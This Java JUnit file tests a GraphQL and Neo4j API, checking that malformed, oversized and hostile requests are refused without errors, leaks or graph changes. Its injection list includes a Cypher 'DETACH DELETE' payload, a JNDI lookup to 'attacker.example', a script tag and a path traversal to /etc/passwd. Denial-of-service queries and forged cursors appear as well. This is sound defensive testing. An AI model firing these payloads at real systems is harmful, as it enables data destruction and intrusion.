package org.competenceatlas.limits;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import graphql.schema.GraphQLArgument;
import graphql.schema.GraphQLFieldDefinition;
import graphql.schema.GraphQLInputObjectType;
import graphql.schema.GraphQLInputType;
import graphql.schema.GraphQLNonNull;
import graphql.schema.GraphQLScalarType;
import graphql.schema.GraphQLTypeUtil;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.competenceatlas.AtlasTest;
import org.competenceatlas.DemoUsers;
import org.competenceatlas.SeedWorldIds;
import org.competenceatlas.common.Abbreviate;
import org.competenceatlas.limits.RawGraphQl.Answer;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.neo4j.driver.Driver;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.graphql.execution.GraphQlSource;

/**
 * Malformed and hostile requests, sent as raw HTTP. Every one is answered with a 4xx status or a
 * GraphQL error that has a message and a classification; none gets a 5xx or an INTERNAL_ERROR, none
 * leaks a stack trace, Cypher or a Java class name, and none changes the graph.
 */
@AtlasTest
class HostileRequestsTest {

  /** Text that would mean something to Cypher, Lucene, a document store, HTML or a logger. */
  static final List<String> INJECTIONS =
      List.of(
          "' OR 1=1 --",
          "\"}) DETACH DELETE n //",
          "') MATCH (n) DETACH DELETE n //",
          "{\"$ne\": null}",
          "$ne",
          "*:*",
          "prefLabel_en:* OR altLabels_en:*~",
          "<script>alert(1)</script>",
          "${jndi:ldap://attacker.example/a}",
          "../../../../etc/passwd",
          "\u0000\u202e\ud83d\ude00",
          "");

  /** Words an error message of ours never needs; echoed client text is taken out first. */
  static final List<String> LEAKS =
      List.of(
          "Exception",
          "org.neo4j",
          "org.springframework",
          "org.competenceatlas",
          "java.",
          "graphql.execution",
          "MATCH (",
          "RETURN ",
          "Neo.ClientError",
          "Neo.DatabaseError",
          "\tat ",
          "at org.",
          "stackTrace",
          "\"trace\"");

  @Autowired GraphQlSource graphQlSource;
  @Autowired Driver driver;

  /** A learner whose portfolio Sanne may not change. */
  private static final String OTHER_LEARNER = "learner-daan";

  @LocalServerPort int port;

  private RawGraphQl http;

  record Hostile(String name, Supplier<Answer> send, List<String> echoes, boolean mayAnswer) {}

  @TestFactory
  Stream<DynamicTest> everyHostileRequestIsRefusedCleanlyAndChangesNothing() {
    http = new RawGraphQl(port);
    var before = graphCounts();
    var cases = new ArrayList<Hostile>();
    cases.addAll(malformedRequests());
    cases.addAll(oversizedAndExpensiveRequests());
    cases.addAll(wrongTypesAndUnknownNames());
    cases.addAll(forgedPages());
    cases.addAll(injectionsInEveryStringArgument());
    var tests = new ArrayList<DynamicTest>();
    for (var hostile : cases) {
      tests.add(dynamicTest(hostile.name(), () -> check(hostile)));
    }
    tests.add(
        dynamicTest(
            "the graph has as many nodes and relationships as before",
            () -> assertThat(graphCounts()).isEqualTo(before)));
    return tests.stream();
  }

  private void check(Hostile hostile) {
    var answer = hostile.send().get();
    assertThat(answer.status()).as("HTTP status of " + answer.body()).isLessThan(500);
    var body = withoutEchoes(answer.body(), hostile.echoes());
    assertThat(body).as("answer without the client's own text").doesNotContain(LEAKS);
    if (answer.status() >= 400) {
      return;
    }
    assertThat(answer.status()).isEqualTo(200);
    var json = RawGraphQl.JSON.readTree(answer.body());
    var errors = json.get("errors");
    if (hostile.mayAnswer() && (errors == null || errors.isEmpty())) {
      return;
    }
    assertThat(errors).as("errors of " + answer.body()).isNotNull().isNotEmpty();
    for (var error : errors) {
      assertThat(error.get("message").asString()).isNotBlank();
      assertThat(error.at("/extensions/classification").asString())
          .as("classification of " + error)
          .isNotBlank()
          .isNotEqualTo("INTERNAL_ERROR");
    }
  }

  private List<Hostile> malformedRequests() {
    var cases = new ArrayList<Hostile>();
    raw(cases, "broken JSON", "application/json", "{\"query\": \"{ schemaVersion }\"");
    raw(
        cases,
        "an array body (batched requests)",
        "application/json",
        "[{\"query\":\"{ schemaVersion }\"}]");
    raw(cases, "a string body", "application/json", "\"{ schemaVersion }\"");
    raw(cases, "a number body", "application/json", "42");
    raw(cases, "a null body", "application/json", "null");
    raw(cases, "an empty body", "application/json", "");
    raw(cases, "a plain-text body", "text/plain", "{ schemaVersion }");
    raw(cases, "an XML body", "application/xml", "<query>{ schemaVersion }</query>");
    raw(cases, "a form body", "application/x-www-form-urlencoded", "query=%7B+schemaVersion+%7D");
    raw(cases, "no query", "application/json", "{\"variables\":{}}");
    raw(cases, "a null query", "application/json", "{\"query\":null}");
    raw(cases, "a number as query", "application/json", "{\"query\":42}");
    raw(cases, "an empty query", "application/json", "{\"query\":\"\"}");
    raw(
        cases,
        "variables that are a string",
        "application/json",
        "{\"query\":\"{ schemaVersion }\",\"variables\":\"x\"}");
    raw(
        cases,
        "variables that are a list",
        "application/json",
        "{\"query\":\"{ schemaVersion }\",\"variables\":[1]}");
    raw(
        cases,
        "an operation name that is an object",
        "application/json",
        "{\"query\":\"{ schemaVersion }\",\"operationName\":{}}");
    raw(
        cases,
        "invalid UTF-8",
        "application/json",
        new byte[] {'{', '"', 'q', '"', ':', (byte) 0xC3, (byte) 0x28, '}'});
    query(cases, "a syntax error", "{ schemaVersion");
    query(cases, "only a comment", "# nothing");
    query(cases, "a mutation, which the schema does not have", "mutation { deleteEverything }");
    query(cases, "a subscription, which the schema does not have", "subscription { changes }");
    query(
        cases,
        "two operations without an operation name",
        "query a { schemaVersion } query b { schemaVersion }");
    cases.add(
        new Hostile(
            "an operation name that is not in the document",
            () -> http.post("{\"query\":\"query a { schemaVersion }\",\"operationName\":\"b\"}"),
            List.of(),
            false));
    query(
        cases,
        "a fragment that spreads itself",
        "{ ...f } fragment f on Query { schemaVersion ...f }");
    cases.add(
        new Hostile(
            "a GET request with a query string",
            () ->
                http.send(
                    HttpRequest.newBuilder(
                            URI.create(
                                "http://localhost:" + port + "/graphql?query=%7BschemaVersion%7D"))
                        .GET()
                        .build()),
            List.of(),
            false));
    cases.add(
        new Hostile(
            "a DELETE request",
            () ->
                http.send(
                    HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/graphql"))
                        .DELETE()
                        .build()),
            List.of(),
            false));
    return cases;
  }

  private List<Hostile> oversizedAndExpensiveRequests() {
    var cases = new ArrayList<Hostile>();
    var megabyte = "a".repeat(1 << 20);
    variables(
        cases,
        "a 1 MB string argument",
        "query($t: String!) { searchOccupations(text: $t) { edges { cursor } } }",
        Map.of("t", megabyte));
    variables(
        cases,
        "a 60 KB string argument, under the body limit",
        "query($t: String!) { searchOccupations(text: $t) { edges { cursor } } }",
        Map.of("t", "nurse ".repeat(10_000)));
    variables(
        cases,
        "a 100,000-element list where an id is expected",
        "query($id: ID!) { occupation(id: $id) { id } }",
        Map.of("id", IntStream.range(0, 100_000).boxed().toList()));
    variables(
        cases,
        "a 10,000-element list under the body limit where an id is expected",
        "query($id: ID!) { occupation(id: $id) { id } }",
        Map.of("id", Collections.nCopies(10_000, "x")));
    variables(
        cases,
        "50 levels of broader",
        GraphQlLimitsTest.broaderChain(50),
        Map.of("id", SeedWorldIds.INFORM_GUESTS));
    query(
        cases,
        "2,000 levels of nesting, past the parser's limit",
        "{ " + "a { ".repeat(2000) + "b" + " }".repeat(2000) + " }");
    var aliases = new StringBuilder("query($f: TransferSourceInput!, $t: TransferTargetInput!) {");
    for (int i = 0; i < 1000; i++) {
      aliases.append(" a").append(i).append(": transfer(from: $f, to: $t) { score }");
    }
    variables(
        cases,
        "1,000 aliases of transfer",
        aliases.append(" }").toString(),
        Map.of(
            "f", Map.of("occupationId", SeedWorldIds.HOTEL_RECEPTIONIST),
            "t", Map.of("occupationId", SeedWorldIds.NURSE)));
    var fragments = new StringBuilder("{ ...f0 }");
    for (int i = 0; i < 40; i++) {
      fragments
          .append(" fragment f")
          .append(i)
          .append(
              " on Query { searchOccupations(text: \"nurse\", first: 100) { edges { node { id } } } ")
          .append(i < 39 ? "...f" + (i + 1) : "")
          .append(" }");
    }
    query(cases, "a fragment chain repeating a page of 100", fragments.toString());
    query(
        cases,
        "introspection nested far past any client's need",
        "{ __schema { types { fields { type { fields { type { fields { type { fields { type { name } } } } } } } } } } }");
    return cases;
  }

  private List<Hostile> wrongTypesAndUnknownNames() {
    var cases = new ArrayList<Hostile>();
    var search =
        "query($first: Int) { searchOccupations(text: \"nurse\", first: $first) { edges { cursor } } }";
    variables(cases, "a string where an Int is expected", search, Map.of("first", "ten"));
    variables(cases, "a float where an Int is expected", search, Map.of("first", 3.5));
    variables(cases, "an Int beyond 32 bits", search, Map.of("first", 1L << 40));
    variables(cases, "a huge first", search, Map.of("first", Integer.MAX_VALUE));
    variables(cases, "a negative first", search, Map.of("first", -1));
    variables(cases, "a first of zero", search, Map.of("first", 0));
    variables(
        cases,
        "an object where an id is expected",
        "query($id: ID!) { occupation(id: $id) { id } }",
        Map.of("id", Map.of("$ne", "")));
    variables(
        cases,
        "a missing required variable",
        "query($id: ID!) { occupation(id: $id) { id } }",
        Map.of());
    variables(
        cases,
        "a string where an input object is expected",
        "query($f: TransferSourceInput!) { transitions(from: $f) { totalCount } }",
        Map.of("f", "nurse"));
    variables(
        cases,
        "an unknown field in an input object",
        "query($f: TransferSourceInput!) { transitions(from: $f) { totalCount } }",
        Map.of(
            "f",
            Map.of("occupationId", SeedWorldIds.NURSE, "cypher", "MATCH (n) DETACH DELETE n")));
    variables(
        cases,
        "both ids of a one-of input",
        "query($f: TransferSourceInput!) { transitions(from: $f) { totalCount } }",
        Map.of("f", Map.of("occupationId", SeedWorldIds.NURSE, "learnerId", SeedWorldIds.SANNE)));
    variables(
        cases,
        "neither id of a one-of input",
        "query($f: TransferSourceInput!) { transitions(from: $f) { totalCount } }",
        Map.of("f", Map.of()));
    variables(
        cases,
        "an unknown enum value",
        "query($i: Importance) { occupation(id: \""
            + SeedWorldIds.NURSE
            + "\") { outcomes(importance: $i) { importance } } }",
        Map.of("i", "ALL"));
    variables(
        cases,
        "a minimum score far out of range",
        "query($f: TransferSourceInput!, $m: Float) { qualificationTransitions(from: $f, minScore: $m) { totalCount } }",
        Map.of("f", Map.of("occupationId", SeedWorldIds.NURSE), "m", 1e308));
    variables(
        cases,
        "too many route steps",
        "query($f: TransferSourceInput!) { routes(from: $f, to: \""
            + SeedWorldIds.NURSE
            + "\", maxSteps: 1000000) { cost } }",
        Map.of("f", Map.of("occupationId", SeedWorldIds.HOTEL_RECEPTIONIST)));
    query(cases, "an unknown field", "{ noSuchField }");
    query(cases, "an unknown argument", "{ schemaVersion(cypher: \"MATCH (n) DETACH DELETE n\") }");
    query(cases, "an unknown type in a fragment", "{ ... on Nothing { id } }");
    query(cases, "a selection on a scalar", "{ schemaVersion { id } }");
    query(cases, "a missing selection on an object", "{ taxonomyReleases }");
    query(cases, "a literal of the wrong type", "{ occupation(id: 42.5) { id } }");
    query(cases, "an undeclared variable", "{ occupation(id: $id) { id } }");
    return cases;
  }

  private List<Hostile> forgedPages() {
    var cases = new ArrayList<Hostile>();
    var search =
        "query($after: String) { searchOccupations(text: \"nurse\", after: $after) { edges { cursor } } }";
    var transitions =
        "query($f: TransferSourceInput!, $after: String) { transitions(from: $f, after: $after) { totalCount edges { cursor } } }";
    for (var cursor :
        List.of(
            "not-a-cursor",
            "%%%",
            encode("offset:-5"),
            encode("offset:2147483647"),
            encode("offset:99999999999"),
            encode("offset:1000000"),
            encode("offset:1e3"),
            encode("skip:5"),
            encode("offset:0 DETACH DELETE n"))) {
      variables(
          cases,
          "the forged cursor '" + cursor + "' on a search",
          search,
          Map.of("after", cursor),
          true);
      variables(
          cases,
          "the forged cursor '" + cursor + "' on transitions",
          transitions,
          Map.of("f", Map.of("occupationId", SeedWorldIds.NURSE), "after", cursor),
          true);
    }
    return cases;
  }

  /**
   * Every String and ID argument of every root field, and every String and ID field of their input
   * objects, in turn gets each injection text; the other required arguments get harmless values.
   * Queries are sent by nobody and by Sanne (about her own portfolio, so the text reaches the
   * resolvers); mutations by Sanne about another learner's portfolio, which she may not change.
   */
  private List<Hostile> injectionsInEveryStringArgument() {
    var cases = new ArrayList<Hostile>();
    var schema = graphQlSource.schema();
    assertThat(schema.getQueryType().getFieldDefinitions()).hasSizeGreaterThan(10);
    var sanne = http.as(DemoUsers.SANNE);
    for (var field : schema.getQueryType().getFieldDefinitions()) {
      cases.addAll(injections("query", field, http, "anonymous", SeedWorldIds.SANNE));
      cases.addAll(injections("query", field, sanne, DemoUsers.SANNE, SeedWorldIds.SANNE));
    }
    if (schema.getMutationType() != null) {
      for (var field : schema.getMutationType().getFieldDefinitions()) {
        cases.addAll(injections("mutation", field, sanne, DemoUsers.SANNE, OTHER_LEARNER));
      }
    }
    return cases;
  }

  private List<Hostile> injections(
      String operation,
      GraphQLFieldDefinition field,
      RawGraphQl client,
      String who,
      String learner) {
    var cases = new ArrayList<Hostile>();
    for (var argument : field.getArguments()) {
      var type = GraphQLTypeUtil.unwrapNonNull(argument.getType());
      if (isText(type)) {
        for (var text : INJECTIONS) {
          cases.add(
              injection(operation, field, argument.getName(), text, text, client, who, learner));
        }
      } else if (type instanceof GraphQLInputObjectType input) {
        for (var inner : input.getFieldDefinitions()) {
          if (isText(GraphQLTypeUtil.unwrapNonNull(inner.getType()))) {
            for (var text : INJECTIONS) {
              cases.add(
                  injection(
                      operation,
                      field,
                      argument.getName(),
                      harmlessWith(input, inner.getName(), text, learner),
                      text,
                      client,
                      who,
                      learner));
            }
          }
        }
      }
    }
    return cases;
  }

  private Hostile injection(
      String operation,
      GraphQLFieldDefinition field,
      String hostileArgument,
      Object hostileValue,
      String text,
      RawGraphQl client,
      String who,
      String learner) {
    var declarations = new ArrayList<String>();
    var uses = new ArrayList<String>();
    var values = new HashMap<String, Object>();
    for (var argument : field.getArguments()) {
      Object value =
          argument.getName().equals(hostileArgument)
              ? hostileValue
              : harmless(field.getName(), argument, learner);
      if (value == null) {
        continue;
      }
      declarations.add(
          "$" + argument.getName() + ": " + GraphQLTypeUtil.simplePrint(argument.getType()));
      uses.add(argument.getName() + ": $" + argument.getName());
      values.put(argument.getName(), value);
    }
    var selection =
        GraphQLTypeUtil.unwrapAll(field.getType()) instanceof GraphQLScalarType
            ? ""
            : " { __typename }";
    var document =
        operation
            + "("
            + String.join(", ", declarations)
            + ") { "
            + field.getName()
            + "("
            + String.join(", ", uses)
            + ")"
            + selection
            + " }";
    return new Hostile(
        "'"
            + text
            + "' from "
            + who
            + " in "
            + field.getName()
            + "."
            + hostileArgument
            + (hostileValue instanceof Map<?, ?> map ? "." + map.keySet().iterator().next() : ""),
        () -> client.query(document, values),
        List.of(text),
        true);
  }

  /**
   * A value the API accepts for a required argument (an argument naming a learner gets {@code
   * learner}); optional ones are left out.
   */
  private static Object harmless(String field, GraphQLArgument argument, String learner) {
    if (!(argument.getType() instanceof GraphQLNonNull)) {
      return null;
    }
    var type = (GraphQLInputType) GraphQLTypeUtil.unwrapNonNull(argument.getType());
    if (type instanceof GraphQLInputObjectType input) {
      return harmlessWith(input, null, null, learner);
    }
    if (type instanceof graphql.schema.GraphQLEnumType enumeration) {
      return enumeration.getValues().get(0).getName();
    }
    if (type instanceof GraphQLScalarType scalar && scalar.getName().equals("Boolean")) {
      return false;
    }
    if (type instanceof GraphQLScalarType scalar && scalar.getName().equals("Int")) {
      return 1;
    }
    if (argument.getName().equals("learnerId")
        || (field.equals("learner") && argument.getName().equals("id"))) {
      return learner;
    }
    return argument.getName().equals("text") ? "nurse" : SeedWorldIds.NURSE;
  }

  /** An input object with harmless required fields, one field set to {@code text} if named. */
  private static Map<String, Object> harmlessWith(
      GraphQLInputObjectType input, String hostileField, String text, String learner) {
    var value = new HashMap<String, Object>();
    switch (input.getName()) {
      case "TransferSourceInput" -> value.put("occupationId", SeedWorldIds.HOTEL_RECEPTIONIST);
      case "TransferTargetInput" -> value.put("occupationId", SeedWorldIds.NURSE);
      default -> {
        for (var inner : input.getFieldDefinitions()) {
          if (inner.getType() instanceof GraphQLNonNull) {
            var harmless =
                harmless(
                    input.getName(),
                    GraphQLArgument.newArgument()
                        .name(inner.getName())
                        .type(inner.getType())
                        .build(),
                    learner);
            value.put(inner.getName(), harmless);
          }
        }
      }
    }
    if (hostileField != null) {
      if (input.getName().equals("TransferSourceInput")
          || input.getName().equals("TransferTargetInput")) {
        value.clear();
      }
      value.put(hostileField, text);
    }
    return value;
  }

  private static boolean isText(Object type) {
    return type instanceof GraphQLScalarType scalar
        && (scalar.getName().equals("String") || scalar.getName().equals("ID"));
  }

  private void raw(List<Hostile> cases, String name, String contentType, String body) {
    raw(cases, name, contentType, body.getBytes(StandardCharsets.UTF_8));
  }

  private void raw(List<Hostile> cases, String name, String contentType, byte[] body) {
    cases.add(new Hostile(name, () -> http.post(contentType, body), List.of(), false));
  }

  private void query(List<Hostile> cases, String name, String document) {
    variables(cases, name, document, Map.of());
  }

  private void variables(
      List<Hostile> cases, String name, String document, Map<String, Object> variables) {
    variables(cases, name, document, variables, false);
  }

  private void variables(
      List<Hostile> cases,
      String name,
      String document,
      Map<String, Object> variables,
      boolean mayAnswer) {
    var echoes = new ArrayList<String>();
    variables.values().forEach(value -> collectText(value, echoes));
    cases.add(new Hostile(name, () -> http.query(document, variables), echoes, mayAnswer));
  }

  private static void collectText(Object value, List<String> texts) {
    if (value instanceof String text) {
      texts.add(text);
    } else if (value instanceof Map<?, ?> map) {
      map.values().forEach(inner -> collectText(inner, texts));
    }
  }

  /**
   * The body without the client's text as our messages may echo it (JSON-escaped, and cut short as
   * {@code Abbreviate} does), so a leak check does not trip over what the client sent.
   */
  private static String withoutEchoes(String body, List<String> echoes) {
    var result = body;
    for (var echo : echoes) {
      var escaped = RawGraphQl.JSON.writeValueAsString(echo);
      escaped = escaped.substring(1, escaped.length() - 1);
      if (!escaped.isEmpty()) {
        result = result.replace(escaped, "");
        if (escaped.length() > Abbreviate.MAX) {
          result = result.replace(escaped.substring(0, Abbreviate.MAX), "");
        }
      }
    }
    return result;
  }

  private static String encode(String text) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  /**
   * Nodes and relationships other than the access log's: a refused attempt on someone else's
   * portfolio is written to that learner's access log, on purpose.
   */
  private Map<String, Long> graphCounts() {
    var counts = new LinkedHashMap<String, Long>();
    counts.put(
        "nodes",
        driver
            .executableQuery("MATCH (n) WHERE NOT n:AccessEvent RETURN count(n) AS c")
            .execute()
            .records()
            .get(0)
            .get("c")
            .asLong());
    counts.put(
        "relationships",
        driver
            .executableQuery("MATCH ()-[r]->() RETURN count(r) AS c")
            .execute()
            .records()
            .get(0)
            .get("c")
            .asLong());
    return counts;
  }
}
